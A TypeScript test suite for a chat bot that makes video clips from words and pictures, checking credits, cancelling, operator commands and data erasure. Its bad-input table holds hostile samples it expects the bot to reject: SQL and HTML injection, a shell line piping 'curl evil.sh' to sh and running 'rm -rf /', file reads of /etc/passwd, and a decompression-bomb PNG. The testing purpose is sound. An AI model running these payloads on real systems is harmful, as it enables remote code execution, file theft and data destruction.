import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { clipsOf } from '../core/clips.ts'
import { jobsOf, openJobs } from '../core/jobs.ts'
import { balance } from '../core/wallet.ts'
import { labels, type Saying, type Shown } from './testing/fake-platform.ts'
import { type House, openHouse } from './testing/house.ts'

let house: House
beforeAll(async () => {
  house = await openHouse()
})
afterAll(() => house.close())

/** A new person in every test, so that tests share a house but nothing else. */
let who = 0
let ann = ''
beforeEach(() => {
  who += 1
  ann = `ann${who}`
})
afterEach(async () => {
  house.worker.go()
  expect(house.fake.broken).toEqual([])
  await house.balanced()
})

const id = (by: string): string => `fake:${by}`
const room = (by = ann): string => `dm-${by}`
const credits = (by = ann) => balance(house.core, id(by))
const texts = (where = room()): string[] => house.fake.shown(where).map(shown => shown.message.text)
const say = (what: string | Saying, by = ann): Promise<void> =>
  house.fake.say({ by, ...(typeof what === 'string' ? { text: what } : what) })
const last = (where = room()): Shown => house.fake.shown(where).at(-1) as Shown
/** The clip somebody gets for what they say. */
async function clipFor(what: string | Saying, by = ann): Promise<Shown> {
  const before = new Set(house.fake.shown().map(shown => shown.at.message))
  await say(what, by)
  return house.fake.until(shown => shown.message.mood === 'done' && !before.has(shown.at.message))
}
const settled = (by = ann) => house.until(async () => (await openJobs(house.core, id(by))).length === 0)

describe('from words to a clip', () => {
  test('one message: ticket, progress, clip with the credits left', async () => {
    house.worker.hold()
    await say('a cat chasing a butterfly')
    const ticket = last()
    expect(ticket.message.text).toMatch(
      /^#\d+ is in: 5 s, 16:9, standard, 20 credits\.\nYou are next.* 46 credits left\.$/,
    )
    expect(ticket.answers).toBeDefined()
    expect(await credits()).toEqual({ available: 46, held: 20 })
    await house.fake.until(shown => shown.at.message === ticket.at.message && /25 %/.test(shown.message.text))
    house.worker.go()
    const clip = await house.fake.until(
      shown => shown.at.message === ticket.at.message && shown.message.mood === 'done',
    )
    expect(clip.message.text).toMatch(/is ready: 5 s, 16:9, standard\.\n46 credits left\.$/)
    expect(clip.message.media?.kind).toBe('video')
    expect(labels(clip)).toEqual(['Again', 'Change', '+5 s', 'Upgrade', 'Share link', 'Delete'])
    expect(texts()).toHaveLength(1)
    await settled()
    expect(await credits()).toEqual({ available: 46, held: 0 })
  })

  test('in Chinese, with length, shape and camera said as words', async () => {
    const clip = await clipFor({ text: '一只猫追蝴蝶 10秒 竖屏 推近', locale: 'zh-Hans-CN' })
    expect(clip.message.text).toMatch(/^#\d+（K\w+）好了：10 秒 · 9:16 · 标准 · 推近。\n还剩 26 灵感值。$/)
    const [made] = await clipsOf(house.core, id(ann), 1)
    expect(made?.recipe).toMatchObject({
      prompt: '一只猫追蝴蝶',
      seconds: 10,
      ratio: '9:16',
      camera: { preset: 'push-in' },
    })
  })

  test('unknown words are said honestly', async () => {
    house.worker.unknownWords = ['zeppelin']
    const clip = await clipFor('a zeppelin over a castle')
    house.worker.unknownWords = []
    expect(clip.message.text).toContain('I did not know this word, so it is not in there: zeppelin.')
  })

  test('a picture from words, then a clip from the picture', async () => {
    const picture = await clipFor('/image a red castle')
    expect(picture.message.media?.kind).toBe('image')
    await house.fake.press(picture, 'Animate', ann)
    await house.fake.until(
      shown => shown.message.mood === 'done' && shown.message.media?.kind === 'video' && shown.at.channel === room(),
    )
    const [clip] = await clipsOf(house.core, id(ann), 1)
    expect(clip?.recipe.firstFrame).toBe(picture.message.media?.key)
  })

  test('one picture is the first frame and gives the shape, two are first and last', async () => {
    const tall = await picture(300, 500)
    await clipFor({ text: '镜头缓缓推近', images: [tall] })
    await clipFor({ text: 'it changes', images: [tall, await picture(300, 500)] })
    const [second, first] = await clipsOf(house.core, id(ann), 2)
    expect(first?.recipe).toMatchObject({ prompt: '镜头缓缓推近', ratio: '9:16' })
    expect(first?.recipe.firstFrame).toMatch(/^pictures\//)
    expect(first?.recipe.lastFrame).toBeUndefined()
    expect(second?.recipe.lastFrame).toMatch(/^pictures\//)
  })

  test('a clip too large for the place comes as a link', async () => {
    house.worker.bytes = 20_000_000
    const clip = await clipFor('a whale')
    house.worker.bytes = 64
    expect(clip.message.media).toBeUndefined()
    expect(clip.message.buttons?.[0]?.url).toMatch(/^http:\/\/localhost:8080\/media\/clips\/.+&s=/)
  })
})

const picture = async (width: number, height: number): Promise<Uint8Array> =>
  sharp({ create: { width, height, channels: 3, background: '#8899aa' } })
    .png()
    .toBuffer()

/** A real PNG of 300 megapixels in a few kilobytes. */
function hugePng(): Uint8Array {
  const [width, height] = [20_000, 15_000]
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const out = Buffer.alloc(body.length + 8)
    out.writeUInt32BE(data.length)
    body.copy(out, 4)
    out.writeUInt32BE(crc(body), body.length + 4)
    return out
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(1, 8)
  const pixels = deflateSync(Buffer.alloc((width / 8 + 1) * height))
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function crc(bytes: Buffer): number {
  let sum = 0xffffffff
  for (const byte of bytes) {
    sum ^= byte
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1
  }
  return (sum ^ 0xffffffff) >>> 0
}

describe('bad input gets one clear sentence and costs nothing', () => {
  const bad: [string, () => Promise<Saying> | Saying, RegExp][] = [
    ['nothing', () => ({ text: '' }), /Tell me what should happen/],
    ['blanks and control characters', () => ({ text: ' \u0000\u0007\u200b\n ' }), /Tell me what should happen/],
    ['10,000 characters', () => ({ text: 'x'.repeat(10_000) }), /10000 characters; I can take up to 2500/],
    ['only emoji', () => ({ text: '🐱🦋👩‍🚀' }), /in words/],
    ['only signs', () => ({ text: '?!?!' }), /in words/],
    ['only a right-to-left override', () => ({ text: '\u202e\u202d' }), /Tell me what should happen/],
    ['SQL', () => ({ text: "'; DROP TABLE members; --" }), /looks like code/],
    ['HTML', () => ({ text: '<img src=x onerror=alert(1)>' }), /looks like code/],
    ['shell', () => ({ text: '$(curl evil.sh | sh) && rm -rf /' }), /looks like code/],
    ['an ffmpeg filter', () => ({ text: "drawtext=text='a':textfile=/etc/passwd" }), /looks like code/],
    ['an unknown option', () => ({ text: 'a cat --second-s 5' }), /Did you mean --seconds\?/],
    ['a wrong value', () => ({ text: 'a cat --ar 5:5' }), /--ar cannot be “5:5”/],
    ['an unknown command', () => ({ text: '/vidoe a cat' }), /Did you mean video\?/],
    ['an unknown model', () => ({ text: 'a cat --model theater' }), /Did you mean theatre\?/],
    ['a tier the model lacks', () => ({ text: 'a cat --tier master' }), /standard, high/],
    ['a length no model has', () => ({ text: 'a cat --seconds 200' }), /--seconds cannot be “200”/],
    ['20 pictures', async () => ({ text: 'a cat', images: Array(20).fill(await picture(64, 64)) }), /You sent 20/],
    ['a 300 megapixel PNG', () => ({ text: 'a cat', images: [hugePng()] }), /too many pixels/],
    [
      'a truncated JPEG',
      async () => ({
        text: 'a cat',
        images: [
          (
            await sharp(await picture(640, 640))
              .jpeg()
              .toBuffer()
          ).subarray(0, 900),
        ],
      }),
      /damaged/,
    ],
    [
      'an SVG named .png',
      () => ({ text: 'a cat', images: [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')] }),
      /JPEG, PNG and WebP/,
    ],
    [
      'a GIF named .png',
      () => ({ text: 'a cat', images: [Buffer.from('GIF89a\x01\x00\x01\x00')] }),
      /JPEG, PNG and WebP/,
    ],
    [
      'a playlist named .png',
      () => ({ text: 'a cat', images: [Buffer.from('#EXTM3U\nfile:///etc/passwd')] }),
      /JPEG, PNG and WebP/,
    ],
    ['a file over 20 MB', () => ({ text: 'a cat', images: [new Uint8Array(21 * 2 ** 20)] }), /larger than 20 MB/],
    [
      'a picture for a picture',
      async () => ({ text: '/image a cat', images: [await picture(64, 64)] }),
      /not another picture/,
    ],
    ['extending nothing', () => ({ text: '/extend' }), /nothing to repeat/],
    ['cancelling nothing', () => ({ text: 'cancel' }), /nothing in the works/],
    ['a number of nobody', () => ({ text: 'cancel #99999' }), /no such job/],
    ['a code of nobody', () => ({ text: 'redeem AAAA-BBBB-CCCC' }), /code/],
    ['operating by anybody', () => ({ text: '/grant fake:ann 100' }), /Only the operator/],
  ]
  test.each(bad)('%s', async (_, saying, sentence) => {
    await say(await saying())
    expect(texts()).toHaveLength(1)
    expect(last().message.text).toMatch(sentence)
    expect(last().message.text.length).toBeLessThan(300)
    expect(await jobsOf(house.core, id(ann), 1)).toEqual([])
    expect((await credits()).held).toBe(0)
  })

  test('no credits left', async () => {
    await clipFor('a cat')
    await clipFor('a cat')
    await clipFor('a cat')
    await settled()
    await say('a cat')
    expect(last().message.text).toMatch(/20/)
    expect(last().message.text).toMatch(/6/)
    expect(await credits()).toEqual({ available: 6, held: 0 })
  })

  test('a button from last month: the clip is gone, or it was never ours', async () => {
    const clip = await clipFor('a cat')
    await house.fake.press(clip.at, 'again:0123456789abcdef', ann)
    expect(last().message.text).toMatch(/not kept here any more/)
    await house.fake.press(clip.at, 'explode:all', ann)
    expect(last().message.text).toMatch(/does nothing any more/)
    await house.fake.press(clip.at, 'retry:job-of-yore', ann)
    expect(last().message.text).toMatch(/no such job/)
  })

  test('the same update ten times is one job, one ticket, one charge', async () => {
    house.worker.hold()
    const same = { text: 'a cat', update: `same-${ann}` }
    await Promise.all(Array.from({ length: 5 }, () => say(same)))
    for (let more = 0; more < 5; more += 1) await say(same)
    await say({ ...same, text: 'a dog' })
    expect(texts()).toHaveLength(1)
    expect(await jobsOf(house.core, id(ann), 9)).toHaveLength(1)
    expect(await credits()).toEqual({ available: 46, held: 20 })
    house.worker.go()
    await house.fake.until(shown => shown.at.channel === room() && shown.message.mood === 'done')
    await say(same)
    expect(texts()).toHaveLength(1)
  })

  test('more at once than allowed', async () => {
    house.worker.hold()
    await house.grant(id(ann), 100)
    for (let n = 0; n < 3; n += 1) await say('a cat')
    await say('a cat')
    expect(last().message.mood).toBe('problem')
    expect((await credits()).held).toBe(60)
    await say('cancel all')
    house.worker.go()
    await settled()
    expect((await credits()).held).toBe(0)
  })
})

describe('cancelling', () => {
  test('a waiting job goes at once, by its owner only', async () => {
    house.worker.hold()
    await say('a cat')
    await house.fake.until(shown => shown.at.channel === room() && /25 %/.test(shown.message.text))
    await say('a dog')
    const waiting = last()
    await house.fake.press(waiting, 'Cancel', 'eve')
    expect(last().message.text).toBe('Only the one who asked for it can do this.')
    expect((await credits()).held).toBe(40)
    await house.fake.press(waiting, 'Cancel', ann)
    const told = await house.fake.until(
      shown => shown.at.message === waiting.at.message && /cancelled/.test(shown.message.text),
    )
    expect(told.message.text).toMatch(/Back in your wallet: 20 credits\.$/)
    expect(await credits()).toEqual({ available: 46, held: 20 })
  })

  test('a running job stops and its credits come back', async () => {
    house.worker.hold()
    await say('a cat')
    const running = await house.fake.until(shown => shown.at.channel === room() && /25 %/.test(shown.message.text))
    const pressedAt = Date.now()
    await house.fake.press(running, 'Cancel', ann)
    await house.fake.until(shown => shown.at.message === running.at.message && /is cancelled/.test(shown.message.text))
    expect(Date.now() - pressedAt).toBeLessThan(2000)
    expect(await credits()).toEqual({ available: 66, held: 0 })
  })

  test('what is made already is not cancelled', async () => {
    const clip = await clipFor('a cat')
    await settled()
    await say({ text: '取消', replyTo: clip.at })
    expect(last().message.text).toMatch(/too late/)
  })
})

describe('from a clip to the next', () => {
  test('answering a clip with words changes them and nothing else', async () => {
    const clip = await clipFor('a cat on a wall --seed 42 --ar 1:1')
    await clipFor({ text: 'a dog on a wall, at night', replyTo: clip.at })
    const [dog, cat] = await clipsOf(house.core, id(ann), 2)
    expect(dog?.recipe).toEqual({ ...cat?.recipe, prompt: 'a dog on a wall, at night' })
    await clipFor({ text: '竖屏', replyTo: clip.at })
    const [tall] = await clipsOf(house.core, id(ann), 1)
    expect(tall?.recipe).toEqual({ ...cat?.recipe, ratio: '9:16' })
  })

  test('the buttons: again, change, extend, link', async () => {
    await house.grant(id(ann), 200)
    const clip = await clipFor('a cat --seed 42')
    await house.fake.press(clip, 'Again', ann)
    await settled()
    await house.fake.press(clip, 'Change', ann)
    expect(last().message.text).toContain('“a cat”')
    await clipFor('a dog')
    await house.fake.press(clip, '+5 s', ann)
    await settled()
    const [extended, changed, again, first] = await clipsOf(house.core, id(ann), 4)
    expect(again?.recipe).toEqual({ ...first?.recipe, seed: again?.recipe.seed })
    expect(again?.recipe.seed).not.toBe(42)
    expect(changed?.recipe).toEqual({ ...first?.recipe, prompt: 'a dog' })
    expect(extended?.recipe).toMatchObject({ continues: first?.id, prompt: 'a cat', seconds: 5 })
    await house.fake.press(clip, 'Share link', ann)
    expect(last().message.text).toMatch(/http:\/\/localhost:8080\/c\/\S+$/)
    expect((await credits()).available).toBe(266 - 80)
  })

  test('refused words do not answer the question what shall change', async () => {
    const clip = await clipFor('a cat --seed 42')
    await house.fake.press(clip, 'Change', ann)
    await say('a dog --raito 9:16')
    expect(last().message.text).toMatch(/--ratio/)
    await clipFor('a dog')
    const [changed, first] = await clipsOf(house.core, id(ann), 2)
    expect(changed?.recipe).toEqual({ ...first?.recipe, prompt: 'a dog' })
    await settled()
    await clipFor('a bird')
    const [bird] = await clipsOf(house.core, id(ann), 1)
    expect(bird?.recipe.seed).not.toBe(42)
  })

  test('deleting is for the owner; afterwards the clip is gone everywhere', async () => {
    const clip = await clipFor({ text: 'a cat', room: `r${who}` })
    const [made] = await clipsOf(house.core, id(ann), 1)
    const own = `Delete (${ann})`
    await house.fake.press(clip, own, 'eve')
    expect(last(`r${who}`).message.text).toMatch(/Only the one who asked/)
    await house.fake.press(clip, own, ann)
    expect(house.fake.shown(`r${who}`).some(shown => shown.at.message === clip.at.message)).toBe(false)
    expect(await house.store.has(made?.media ?? 'clips/none00.mp4')).toBe(false)
    await house.fake.press(clip.at, `again:${made?.id}`, ann)
    expect(last(`r${who}`).message.text).toMatch(/not kept here/)
  })

  test('anybody may make something from a clip and pays for it', async () => {
    const clip = await clipFor({ text: 'a cat', room: `r${who}` })
    await house.fake.press(clip, 'Again', `eve${who}`)
    await settled(`eve${who}`)
    expect((await credits(`eve${who}`)).available).toBe(46)
    expect((await credits()).available).toBe(46)
  })
})

describe('in a group', () => {
  test('only what is meant for the bot is answered, in its thread', async () => {
    const where = `r${who}`
    const group = { room: where, thread: 't7', addressed: false }
    await say({ ...group, text: 'what a nice day' })
    await say({ ...group, text: 'help' })
    await say({ ...group, text: '/unknown' })
    expect(texts(where)).toEqual([])
    const clip = await clipFor({ ...group, text: '/video a cat' })
    expect(clip.at.thread).toBe('t7')
    await say({ ...group, addressed: true, text: 'haha, thanks! 😂', replyTo: clip.at })
    expect(texts(where)).toHaveLength(1)
  })
})

describe('settings, credits, history', () => {
  test('the language is switched by command and by button', async () => {
    await say('设置 语言 中文')
    expect(last().message.text).toMatch(/^记住了。\n语言：中文/)
    await say('credits')
    expect(last().message.text).toMatch(/^你有 66 灵感值。/)
    await say('设置')
    await house.fake.press(last(), 'English', ann)
    expect(last().message.text).toMatch(/^Noted\.\nLanguage: English/)
  })

  test('defaults are used until something else is said', async () => {
    await say('settings ratio 9:16')
    await say('settings tier high')
    await say('settings tier golden')
    expect(last().message.text).toMatch(/settings ratio 9:16/)
    const clip = await clipFor('a cat')
    expect(clip.message.text).toContain('5 s, 9:16, high')
    await say('settings reset')
    await say('history')
    expect(last().message.text).toMatch(/^Your latest:\n#\d+ 5 s, 9:16, high: “a cat” – http/)
  })

  test('what is in the works is shown with a way to cancel it', async () => {
    house.worker.hold()
    await say('a cat')
    await say('进度')
    expect(last().message.text).toMatch(/#\d+ 5 s, 16:9, standard/)
    expect(labels(last())[0]).toMatch(/^Cancel #\d+$/)
  })

  test('a code is worth its credits once', async () => {
    await house.fake.say({ by: 'boss', text: '/codes 50 2' })
    const codes = last('dm-boss').message.text.split('\n').slice(1)
    expect(codes).toHaveLength(2)
    await say(`redeem ${codes[0]?.toLowerCase()}`)
    expect(last().message.text).toMatch(/^Redeemed 50 credits\./)
    await say(`兑换 ${codes[0]}`)
    expect(last().message.mood).toBe('problem')
    expect((await credits()).available).toBeGreaterThanOrEqual(50)
  })

  test('help is there in both languages', async () => {
    await say('/start')
    await say('帮助')
    expect(texts()[0]).toContain('/video [words]')
  })
})

describe('the operator', () => {
  const boss = (text: string, update?: string) =>
    house.fake.say({ by: 'boss', text, ...(update !== undefined && { update }) })
  test('grants once per update, however often it comes', async () => {
    for (let n = 0; n < 3; n += 1) await boss(`/grant ${id(ann)} 100 for the party`, `grant-${ann}`)
    expect((await credits()).available).toBe(100)
    await boss('/grant nobody 5')
    expect(last('dm-boss').message.text).toMatch(/by id/)
    await boss(`/grant ${id(ann)} -5`)
    expect(last('dm-boss').message.text).toMatch(/whole number/)
  })

  test('shuts out and lets in', async () => {
    await boss(`/ban ${id(ann)} rude`)
    await say('a cat')
    expect(last().message.text).toMatch(/cannot use this here/)
    await boss(`/unban ${id(ann)}`)
    await say('credits')
    expect(last().message.text).toMatch(/^You have/)
  })

  test('sees how things are and tells everybody', async () => {
    await say('credits')
    await boss('/stats')
    expect(last('dm-boss').message.text).toMatch(/Members: \d+\. Waiting: \d+\..*\ntheatre: 1 running\./)
    await boss('/announce Back at noon')
    await house.fake.until(shown => shown.at.channel === room() && shown.message.text === '📢 Back at noon')
  })
})

describe('privacy', () => {
  test('everything is handed out, then erased, and the books stay', async () => {
    await clipFor({ text: 'a secret castle', images: [await picture(64, 64)] })
    await settled()
    const [clip] = await clipsOf(house.core, id(ann), 1)
    await say('export')
    const key = /\/media\/(exports\/[\w-]+\.json)/.exec(last().message.text)?.[1] ?? ''
    const exported = Buffer.from(await house.store.get(key)).toString()
    expect(exported).toContain('a secret castle')
    await say('forget')
    await house.fake.press(last(), 'Yes, forget me', 'eve')
    expect(last().message.text).toMatch(/Only the one/)
    await say('forget yes')
    expect(last().message.text).toBe('Done: your data is erased.')
    expect(await jobsOf(house.core, id(ann), 9)).toEqual([])
    expect(await clipsOf(house.core, id(ann), 9)).toEqual([])
    for (const file of [clip?.media, clip?.poster, clip?.state, clip?.recipe.firstFrame])
      expect(file && (await house.store.has(file))).toBe(false)
    expect(await house.keysWith('secret castle')).toEqual([])
    expect((await credits()).available).toBe(46)
  })

  test('an export is not shown where others could open it', async () => {
    await say({ text: '/export', room: `r${who}` })
    expect(last(`r${who}`).message.text).toMatch(/private chat/)
  })

  test('not while something is in the works', async () => {
    house.worker.hold()
    await say('a cat')
    await say('forget yes')
    expect(last().message.text).toMatch(/still have something in the works/)
  })
})
